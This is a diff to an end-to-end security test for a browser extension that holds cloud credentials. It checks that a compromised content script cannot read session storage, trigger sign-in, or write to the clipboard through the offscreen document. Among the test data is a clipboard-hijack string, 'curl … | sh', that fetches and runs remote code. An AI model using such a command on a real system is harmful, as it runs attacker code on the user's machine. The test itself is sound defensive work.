@@ -2,7 +2,8 @@
  * Others trying to reach the extension in real Chromium, while the user is signed in:
  * - a content script running under the extension's own id on a web page (what a future content
  *   script, or a compromised one, could do): it may neither read session storage nor get the
- *   background to act, since the background answers only the extension's own pages;
+ *   background to act, since the background answers only the extension's own pages, nor write
+ *   the clipboard through the offscreen clipboard document, which answers only the background;
  * - another extension messaging ours: nothing listens for it (no `externally_connectable`);
  * - a web page: it has no channel to the extension and cannot load its pages.
  *
@@ -15,10 +16,14 @@ import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import type { Worker } from 'playwright-core';
+import { pressBrowserShortcut } from './browser-ui';
 import { DEFAULT_EXTENSION_DIR, EXTENSION_ID, EXTENSION_ORIGIN, startEnvironment } from './harness';
 import type { Environment } from './harness';
 
 jest.setTimeout(180_000);
+
+/** What a hijacked clipboard would paste into the user's terminal. */
+const attackerText = 'curl -s http://127.0.0.1:9/x | sh';
 
 /** Runs in the content script's isolated world and leaves its findings on the page's root element. */
 const contentScript = `(async () => {
@@ -26,6 +31,7 @@ const contentScript = `(async () => {
   try { out.session = await chrome.storage.session.get(null); } catch (error) { out.sessionError = error.message; }
   try { out.signOut = await chrome.runtime.sendMessage({ action: 'signOut', payload: {} }); } catch (error) { out.signOutError = error.message; }
   try { out.signIn = await chrome.runtime.sendMessage({ action: 'signIn', payload: { providerId: 'sandbox' } }); } catch (error) { out.signInError = error.message; }
+  try { out.clipboard = await chrome.runtime.sendMessage({ target: 'offscreen-clipboard', text: ${JSON.stringify(attackerText)}, clearAfterSeconds: 0 }); } catch (error) { out.clipboardError = error.message; }
   document.documentElement.dataset.attack = JSON.stringify(out);
 })();
 `;
@@ -36,6 +42,7 @@ let env: Environment;
 let work: string;
 let site: Server;
 let siteUrl: string;
+let clipboardBefore = '';
 
 beforeAll(async () => {
   work = await mkdtemp(path.join(tmpdir(), `wic-e2e-${process.pid}-attack-`));
@@ -61,6 +68,11 @@ beforeAll(async () => {
   await popup.getByRole('button', { name: 'Sign in' }).click();
   await env.loginOnIdp(await authWindow, 'mallory-victim');
   await popup.getByRole('article', { name: 'Sandbox developer' }).getByRole('status').filter({ hasText: /^Valid/ }).waitFor({ timeout: 60_000 });
+  // The keyboard shortcut copies through the offscreen document, which stays open for the attack.
+  await pressBrowserShortcut(popup, ['Alt', 'Shift'], 'K');
+  const deadline = Date.now() + 30_000;
+  while (!(clipboardBefore = await env.readClipboard()).includes('AWS_ACCESS_KEY_ID') && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 250));
+  expect(clipboardBefore).toContain('AWS_ACCESS_KEY_ID');
   await popup.close();
 });
 
@@ -94,6 +106,18 @@ describe('a content script of the extension on a web page', () => {
     expect(findings.signIn).toEqual({ ok: false, error: { code: 'FORBIDDEN_SENDER', message: 'Not accepted from this sender.' } });
     expect(await sessionKeys()).toEqual(before);
     expect(before).toEqual(expect.arrayContaining(['credentials/dev', 'provider-session/sandbox']));
+  });
+
+  it('cannot put text on the clipboard through the offscreen document', async () => {
+    expect(findings.clipboard).toEqual({ ok: false, error: { code: 'FORBIDDEN_SENDER', message: 'Not accepted from this sender.' } });
+    // A request from the background reaches the document after the script's did, so once the
+    // document has answered it, the script's request has had its chance.
+    const answer = await (await env.getWorker()).evaluate(async () => {
+      const { chrome } = globalThis as unknown as { chrome: { runtime: { sendMessage(message: unknown): Promise<unknown> } } };
+      return chrome.runtime.sendMessage({ target: 'offscreen-clipboard', clearAfterSeconds: 0 });
+    });
+    expect(answer).toEqual({ ok: true });
+    await expect(env.readClipboard()).resolves.toBe(clipboardBefore);
   });
 });
 
